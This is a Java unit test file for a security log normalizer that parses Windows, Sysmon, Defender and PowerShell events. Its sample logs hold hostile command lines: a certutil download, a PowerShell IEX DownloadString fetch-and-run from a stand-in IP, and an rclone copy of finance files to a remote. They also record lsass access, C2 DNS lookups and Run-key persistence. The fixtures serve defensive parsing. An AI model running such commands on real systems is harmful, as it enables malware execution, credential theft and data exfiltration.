package dev.watchfloor.ingest.normalize.vendor.endpoint;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.watchfloor.ingest.normalize.NormalizedRecord;

class WindowsMapperTest {

    private static final String LOGON_XML = """
            <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
              <System>
                <Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-A5BA-3E3B0328C30D}"/>
                <EventID>4624</EventID>
                <Keywords>0x8020000000000000</Keywords>
                <TimeCreated SystemTime="2024-05-02T09:15:30.1234567Z"/>
                <EventRecordID>88120</EventRecordID>
                <Channel>Security</Channel>
                <Computer>FS02.corp.example.org</Computer>
              </System>
              <EventData>
                <Data Name="SubjectUserSid">S-1-5-18</Data>
                <Data Name="SubjectUserName">FS02$</Data>
                <Data Name="SubjectDomainName">CORP</Data>
                <Data Name="SubjectLogonId">0x3e7</Data>
                <Data Name="TargetUserSid">S-1-5-21-1111-2222-3333-1207</Data>
                <Data Name="TargetUserName">mreyes</Data>
                <Data Name="TargetDomainName">CORP</Data>
                <Data Name="TargetLogonId">0x1a2b3c</Data>
                <Data Name="LogonType">10</Data>
                <Data Name="LogonProcessName">User32</Data>
                <Data Name="AuthenticationPackageName">Negotiate</Data>
                <Data Name="WorkstationName">LAPTOP-77</Data>
                <Data Name="ProcessId">0x2a4</Data>
                <Data Name="ProcessName">C:\\Windows\\System32\\svchost.exe</Data>
                <Data Name="IpAddress">10.20.30.41</Data>
                <Data Name="IpPort">50211</Data>
              </EventData>
            </Event>
            """;

    @Test
    void readsALogonFromEventXml() {
        NormalizedRecord r = Normalize.one(LOGON_XML);
        ObjectNode e = r.body();
        assertThat(r.source()).isEqualTo("windows");
        assertThat(e.path("class_uid").asInt()).isEqualTo(3002);
        assertThat(e.path("activity_id").asInt()).isEqualTo(1);
        assertThat(e.path("status_id").asInt()).isEqualTo(1);
        assertThat(e.path("severity_id").asInt()).isEqualTo(1);
        assertThat(e.path("time").asLong()).isEqualTo(1714641330123L);
        assertThat(e.at("/user/name").asText()).isEqualTo("mreyes");
        assertThat(e.at("/user/domain").asText()).isEqualTo("CORP");
        assertThat(e.at("/actor/user/name").asText()).isEqualTo("FS02$");
        assertThat(e.at("/logon_type_id").asInt()).isEqualTo(10);
        assertThat(e.at("/logon_type").asText()).isEqualTo("Remote Interactive");
        assertThat(e.at("/src_endpoint/ip").asText()).isEqualTo("10.20.30.41");
        assertThat(e.at("/src_endpoint/port").asInt()).isEqualTo(50211);
        assertThat(e.at("/src_endpoint/hostname").asText()).isEqualTo("LAPTOP-77");
        assertThat(e.at("/device/hostname").asText()).isEqualTo("FS02.corp.example.org");
        assertThat(e.at("/actor/process/pid").asInt()).isEqualTo(0x2a4);
        assertThat(e.at("/metadata/event_code").asText()).isEqualTo("4624");
        assertThat(r.entities()).contains("user:mreyes", "ip:10.20.30.41", "host:fs02.corp.example.org");
        assertThat(e.has("unmapped")).isTrue();
        assertThat(e.at("/unmapped/Event/EventData/TargetUserName").isMissingNode()).isTrue();
    }

    @Test
    void readsAProcessCreationFromEvtxJsonWithEventIdAsObject() {
        String json = """
                {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}},
                  "EventID": {"#attributes": {"Qualifiers": ""}, "#text": 4688},
                  "Keywords": "0x8020000000000000",
                  "TimeCreated": {"#attributes": {"SystemTime": "2024-05-02T08:00:01.500000Z"}},
                  "Channel": "Security", "Computer": "WKS-31.corp.example.org"},
                 "EventData": {"SubjectUserSid": "S-1-5-21-1111-2222-3333-1301", "SubjectUserName": "tnguyen",
                  "SubjectDomainName": "CORP", "SubjectLogonId": "0x5c1f2",
                  "NewProcessId": "0x1f40", "NewProcessName": "C:\\\\Windows\\\\System32\\\\certutil.exe",
                  "ProcessId": "0xa10", "CommandLine": "certutil -urlcache -f http://198.51.100.9/a.bin a.bin",
                  "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
                  "ParentProcessName": "C:\\\\Windows\\\\System32\\\\cmd.exe"}}}
                """;
        ObjectNode e = Normalize.one(json).body();
        assertThat(e.path("class_uid").asInt()).isEqualTo(1007);
        assertThat(e.path("activity_id").asInt()).isEqualTo(1);
        assertThat(e.at("/process/name").asText()).isEqualTo("certutil.exe");
        assertThat(e.at("/process/pid").asInt()).isEqualTo(0x1f40);
        assertThat(e.at("/process/cmd_line").asText()).startsWith("certutil -urlcache");
        assertThat(e.at("/process/parent_process/file/path").asText()).isEqualTo("C:\\Windows\\System32\\cmd.exe");
        assertThat(e.at("/process/parent_process/pid").asInt()).isEqualTo(0xa10);
        assertThat(e.at("/actor/user/name").asText()).isEqualTo("tnguyen");
        assertThat(e.at("/process/user").isMissingNode()).isTrue();
        assertThat(e.path("message").asText()).isEqualTo("A new process has been created.");
    }

    @Test
    void readsAFailedLogonFromWinlogbeat() {
        String json = """
                {"@timestamp": "2024-05-02T10:01:02.000Z", "event": {"code": "4625", "outcome": "failure"},
                 "winlog": {"channel": "Security", "provider_name": "Microsoft-Windows-Security-Auditing",
                  "event_id": "4625", "computer_name": "DC01.corp.example.org", "keywords": ["Audit Failure"],
                  "event_data": {"TargetUserName": "svc_backup", "TargetDomainName": "CORP", "LogonType": "3",
                   "IpAddress": "203.0.113.77", "IpPort": "0", "Status": "0xc000006d", "SubStatus": "0xc000006a",
                   "FailureReason": "%%2313", "WorkstationName": "-"}},
                 "host": {"name": "dc01"}}
                """;
        NormalizedRecord r = Normalize.one(json);
        ObjectNode e = r.body();
        assertThat(r.source()).isEqualTo("windows");
        assertThat(e.path("class_uid").asInt()).isEqualTo(3002);
        assertThat(e.path("status_id").asInt()).isEqualTo(2);
        assertThat(e.path("severity_id").asInt()).isEqualTo(2);
        assertThat(e.path("status_code").asText()).isEqualTo("0xc000006a");
        assertThat(e.at("/user/name").asText()).isEqualTo("svc_backup");
        assertThat(e.at("/src_endpoint/ip").asText()).isEqualTo("203.0.113.77");
        assertThat(e.at("/src_endpoint/hostname").isMissingNode()).isTrue();
        assertThat(e.at("/device/hostname").asText()).isEqualTo("DC01.corp.example.org");
    }

    @Test
    void readsAnNxlogAccountCreationAndAGroupChange() {
        String body = """
                {"EventTime":"2024-05-02 07:30:00","Hostname":"DC02.corp.example.org","EventID":4720,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","SubjectUserName":"adm.jlee","SubjectDomainName":"CORP","TargetUserName":"contractor9","TargetDomainName":"CORP","TargetSid":"S-1-5-21-1111-2222-3333-1502","EventType":"AUDIT_SUCCESS"}
                {"EventTime":"2024-05-02 07:31:00","Hostname":"DC02.corp.example.org","EventID":4732,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","SubjectUserName":"adm.jlee","MemberName":"CN=Contractor Nine,OU=Staff,DC=corp,DC=example,DC=org","MemberSid":"S-1-5-21-1111-2222-3333-1502","TargetUserName":"Administrators","TargetDomainName":"Builtin","EventType":"AUDIT_SUCCESS"}
                """;
        List<NormalizedRecord> records = Normalize.all(body);
        assertThat(records).hasSize(2);
        ObjectNode created = records.get(0).body();
        assertThat(created.path("class_uid").asInt()).isEqualTo(3001);
        assertThat(created.path("activity_id").asInt()).isEqualTo(1);
        assertThat(created.at("/user/name").asText()).isEqualTo("contractor9");
        assertThat(created.at("/actor/user/name").asText()).isEqualTo("adm.jlee");
        assertThat(created.path("status_id").asInt()).isEqualTo(1);
        ObjectNode added = records.get(1).body();
        assertThat(added.path("class_uid").asInt()).isEqualTo(3006);
        assertThat(added.path("activity_id").asInt()).isEqualTo(3);
        assertThat(added.at("/group/name").asText()).isEqualTo("Administrators");
        assertThat(added.at("/user/name").asText()).isEqualTo("Contractor Nine");
        assertThat(added.at("/user/uid").asText()).isEqualTo("S-1-5-21-1111-2222-3333-1502");
    }

    @Test
    void readsSysmonProcessCreateWithHashesAndParent() {
        String json = """
                {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1,
                  "Level": 4, "TimeCreated": {"#attributes": {"SystemTime": "2024-05-02T11:11:11.000000Z"}},
                  "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WKS-12"},
                 "EventData": {"ProcessGuid": "{aa11bb22-0000-0000-0000-000000000001}", "ProcessId": 4512,
                  "Image": "C:\\\\Users\\\\pkim\\\\AppData\\\\Local\\\\Temp\\\\rclone.exe",
                  "CommandLine": "rclone.exe copy C:\\\\Finance remote:drop", "User": "CORP\\\\pkim",
                  "Hashes": "SHA1=1111111111111111111111111111111111111111,MD5=22222222222222222222222222222222,SHA256=3333333333333333333333333333333333333333333333333333333333333333,IMPHASH=44444444444444444444444444444444",
                  "ParentProcessId": 3900, "ParentImage": "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
                  "ParentCommandLine": "powershell.exe -nop"}}}
                """;
        NormalizedRecord r = Normalize.one(json);
        ObjectNode e = r.body();
        assertThat(e.path("class_uid").asInt()).isEqualTo(1007);
        assertThat(e.at("/metadata/product/name").asText()).isEqualTo("Sysmon");
        assertThat(e.at("/process/name").asText()).isEqualTo("rclone.exe");
        assertThat(e.at("/process/pid").asInt()).isEqualTo(4512);
        assertThat(e.at("/process/file/hashes")).hasSize(3);
        assertThat(e.at("/process/file/hashes/2/algorithm_id").asInt()).isEqualTo(3);
        assertThat(e.at("/actor/process/name").asText()).isEqualTo("powershell.exe");
        assertThat(e.at("/actor/user/name").asText()).isEqualTo("pkim");
        assertThat(e.at("/actor/user/domain").asText()).isEqualTo("CORP");
        assertThat(r.entities()).contains("process:rclone.exe",
                "hash:3333333333333333333333333333333333333333333333333333333333333333", "user:pkim");
        assertThat(r.title()).isEqualTo("Process Create: rclone.exe");
    }

    @Test
    void readsSysmonNetworkLsassAccessDnsAndRegistry() {
        String body = """
                {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 3, "Computer": "WKS-12", "TimeCreated": {"#attributes": {"SystemTime": "2024-05-02T11:12:00Z"}}},
                 "EventData": {"Image": "C:\\\\Tools\\\\beacon.exe", "ProcessId": 700, "User": "CORP\\\\pkim", "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.1.2.3", "SourcePort": "51000", "DestinationIp": "192.0.2.50", "DestinationPort": "443", "DestinationHostname": "cdn.example.net"}}}
                {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 10, "Computer": "WKS-12", "TimeCreated": {"#attributes": {"SystemTime": "2024-05-02T11:12:01Z"}}},
                 "EventData": {"SourceImage": "C:\\\\Tools\\\\beacon.exe", "SourceProcessId": 700, "TargetImage": "C:\\\\Windows\\\\system32\\\\lsass.exe", "TargetProcessId": 640, "GrantedAccess": "0x1010", "SourceUser": "CORP\\\\pkim"}}}
                {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 22, "Computer": "WKS-12", "TimeCreated": {"#attributes": {"SystemTime": "2024-05-02T11:12:02Z"}}},
                 "EventData": {"Image": "C:\\\\Tools\\\\beacon.exe", "ProcessId": 700, "QueryName": "c2.example.com", "QueryStatus": "0", "QueryResults": "::ffff:192.0.2.50;"}}}
                {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 13, "Computer": "WKS-12", "TimeCreated": {"#attributes": {"SystemTime": "2024-05-02T11:12:03Z"}}},
                 "EventData": {"EventType": "SetValue", "Image": "C:\\\\Tools\\\\beacon.exe", "ProcessId": 700, "TargetObject": "HKU\\\\S-1-5-21-1\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\Updater", "Details": "C:\\\\Tools\\\\beacon.exe"}}}
                """;
        List<NormalizedRecord> records = Normalize.all(body);
        assertThat(records).hasSize(4);
        ObjectNode network = records.get(0).body();
        assertThat(network.path("class_uid").asInt()).isEqualTo(4001);
        assertThat(network.at("/dst_endpoint/ip").asText()).isEqualTo("192.0.2.50");
        assertThat(network.at("/dst_endpoint/port").asInt()).isEqualTo(443);
        assertThat(network.at("/src_endpoint/ip").asText()).isEqualTo("10.1.2.3");
        ObjectNode access = records.get(1).body();
        assertThat(access.path("class_uid").asInt()).isEqualTo(1007);
        assertThat(access.path("activity_id").asInt()).isEqualTo(3);
        assertThat(access.at("/process/name").asText()).isEqualTo("lsass.exe");
        assertThat(access.at("/actor/process/name").asText()).isEqualTo("beacon.exe");
        ObjectNode dns = records.get(2).body();
        assertThat(dns.path("class_uid").asInt()).isEqualTo(4003);
        assertThat(dns.at("/query/hostname").asText()).isEqualTo("c2.example.com");
        assertThat(dns.at("/answers/0/rdata").asText()).isEqualTo("192.0.2.50");
        ObjectNode registry = records.get(3).body();
        assertThat(registry.path("class_uid").asInt()).isEqualTo(201002);
        assertThat(registry.path("activity_id").asInt()).isEqualTo(2);
        assertThat(registry.at("/reg_value/name").asText()).isEqualTo("Updater");
    }

    @Test
    void readsDefenderDetectionXmlWithABareAmpersand() {
        String xml = """
                <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>
                <Provider Name="Microsoft-Windows-Windows Defender"/><EventID>1116</EventID><Level>3</Level>
                <TimeCreated SystemTime="2024-05-01T22:00:05.0000000Z"/><Channel>Microsoft-Windows-Windows Defender/Operational</Channel>
                <Computer>WKS-40</Computer></System><EventData>
                <Data Name="Detection ID">{0F0F0F0F-1111-2222-3333-444444444444}</Data>
                <Data Name="Threat ID">2147700001</Data><Data Name="Threat Name">HackTool:Win64/Example.A</Data>
                <Data Name="Severity ID">4</Data><Data Name="Severity Name">High</Data>
                <Data Name="Category Name">Tool</Data>
                <Data Name="FWLink">https://go.microsoft.com/fwlink/?linkid=1&name=HackTool</Data>
                <Data Name="Process Name">C:\\Windows\\explorer.exe</Data>
                <Data Name="Detection User">CORP\\ahmed</Data>
                <Data Name="Path">file:_C:\\Users\\ahmed\\Downloads\\tool.exe</Data>
                </EventData></Event>
                """;
        NormalizedRecord r = Normalize.one(xml);
        ObjectNode e = r.body();
        assertThat(e.path("class_uid").asInt()).isEqualTo(2004);
        assertThat(e.path("severity_id").asInt()).isEqualTo(4);
        assertThat(e.at("/finding_info/title").asText()).isEqualTo("HackTool:Win64/Example.A");
        assertThat(e.at("/file/path").asText()).isEqualTo("C:\\Users\\ahmed\\Downloads\\tool.exe");
        assertThat(e.at("/actor/user/name").asText()).isEqualTo("ahmed");
        assertThat(e.at("/finding_info/src_url").asText()).contains("&name=HackTool");
        assertThat(r.warnings()).anyMatch(w -> w.contains("&amp;"));
    }

    @Test
    void readsLogClearedAndPowerShellScriptBlocks() {
        String body = """
                <Events>
                <Event><System><Provider Name="Microsoft-Windows-Eventlog"/><EventID>1102</EventID>
                <TimeCreated SystemTime="2024-05-02T03:00:00Z"/><Channel>Security</Channel><Computer>DC01</Computer>
                <Keywords>0x4020000000000000</Keywords></System>
                <UserData><LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog">
                <SubjectUserSid>S-1-5-21-1111-2222-3333-500</SubjectUserSid><SubjectUserName>Administrator</SubjectUserName>
                <SubjectDomainName>CORP</SubjectDomainName><SubjectLogonId>0x77a</SubjectLogonId></LogFileCleared></UserData></Event>
                <Event><System><Provider Name="Microsoft-Windows-PowerShell"/><EventID>4104</EventID><Level>5</Level>
                <TimeCreated SystemTime="2024-05-02T03:01:00Z"/><Channel>Microsoft-Windows-PowerShell/Operational</Channel>
                <Computer>DC01</Computer><Security UserID="S-1-5-21-1111-2222-3333-500"/></System>
                <EventData><Data Name="MessageNumber">1</Data><Data Name="MessageTotal">1</Data>
                <Data Name="ScriptBlockText">IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/p.ps1')</Data>
                <Data Name="ScriptBlockId">5b0e5a54-0000-4000-8000-000000000001</Data><Data Name="Path"></Data></EventData></Event>
                </Events>
                """;
        List<NormalizedRecord> records = Normalize.all(body);
        assertThat(records).hasSize(2);
        ObjectNode cleared = records.get(0).body();
        assertThat(cleared.path("class_uid").asInt()).isEqualTo(1008);
        assertThat(cleared.path("activity_id").asInt()).isEqualTo(1);
        assertThat(cleared.at("/actor/user/name").asText()).isEqualTo("Administrator");
        ObjectNode script = records.get(1).body();
        assertThat(script.path("class_uid").asInt()).isEqualTo(1007);
        assertThat(script.at("/process/cmd_line").asText()).contains("DownloadString");
        assertThat(script.at("/actor/user/uid").asText()).isEqualTo("S-1-5-21-1111-2222-3333-500");
    }

    @Test
    void readsEventXmlCarriedInASplunkEventFieldAndNxlogNumericKeywords() {
        String hec = "{\"time\": 1714641330, \"host\": \"fs02\", \"sourcetype\": \"XmlWinEventLog\", \"event\": "
                + com.fasterxml.jackson.databind.node.TextNode.valueOf(LOGON_XML).toString() + "}";
        NormalizedRecord r = Normalize.one(hec);
        assertThat(r.source()).isEqualTo("windows");
        assertThat(r.body().at("/user/name").asText()).isEqualTo("mreyes");
        assertThat(r.body().at("/src_endpoint/ip").asText()).isEqualTo("10.20.30.41");
        assertThat(r.warnings()).anyMatch(w -> w.contains("'event' field"));

        String nxlog = "{\"EventTime\":\"2024-05-02 07:30:00\",\"Hostname\":\"DC02\",\"EventID\":4625,"
                + "\"SourceName\":\"Microsoft-Windows-Security-Auditing\",\"Keywords\":-9218868437227405312,"
                + "\"TargetUserName\":\"ghost\",\"IpAddress\":\"::ffff:192.0.2.14\"}";
        ObjectNode failed = Normalize.one(nxlog).body();
        assertThat(failed.path("status_id").asInt()).isEqualTo(2);
        assertThat(failed.path("severity_id").asInt()).isEqualTo(2);
        assertThat(failed.at("/src_endpoint/ip").asText()).isEqualTo("192.0.2.14");
    }

    @Test
    void readsSplunkAddOnExtractionsAndWinlogbeatSixFields() {
        String splunk = """
                {"_time": "2024-05-02T09:40:00.000+00:00", "EventCode": "4624", "LogName": "Security",
                 "SourceName": "Microsoft Windows security auditing.", "ComputerName": "APP07.corp.example.org",
                 "Keywords": "Audit Success", "Account_Name": ["APP07$", "svc_sql"], "Account_Domain": ["CORP", "CORP"],
                 "Logon_Type": "5", "Source_Network_Address": "-", "Process_Name": "C:\\\\Windows\\\\System32\\\\services.exe"}
                """;
        ObjectNode logon = Normalize.one(splunk).body();
        assertThat(logon.path("class_uid").asInt()).isEqualTo(3002);
        assertThat(logon.at("/user/name").asText()).isEqualTo("svc_sql");
        assertThat(logon.at("/actor/user/name").asText()).isEqualTo("APP07$");
        assertThat(logon.at("/logon_type_id").asInt()).isEqualTo(5);
        assertThat(logon.at("/src_endpoint/ip").isMissingNode()).isTrue();
        assertThat(logon.path("time").asLong()).isEqualTo(1714642800000L);

        String beat6 = """
                {"@timestamp": "2024-05-02T09:41:00Z", "event_id": 4634, "source_name": "Microsoft-Windows-Security-Auditing",
                 "log_name": "Security", "computer_name": "APP07.corp.example.org",
                 "event_data": {"TargetUserName": "svc_sql", "TargetDomainName": "CORP", "LogonType": "5", "TargetLogonId": "0x9f"}}
                """;
        ObjectNode logoff = Normalize.one(beat6).body();
        assertThat(logoff.path("class_uid").asInt()).isEqualTo(3002);
        assertThat(logoff.path("activity_id").asInt()).isEqualTo(2);
        assertThat(logoff.at("/user/name").asText()).isEqualTo("svc_sql");
        assertThat(logoff.at("/session/uid").asText()).isEqualTo("0x9f");
    }
}
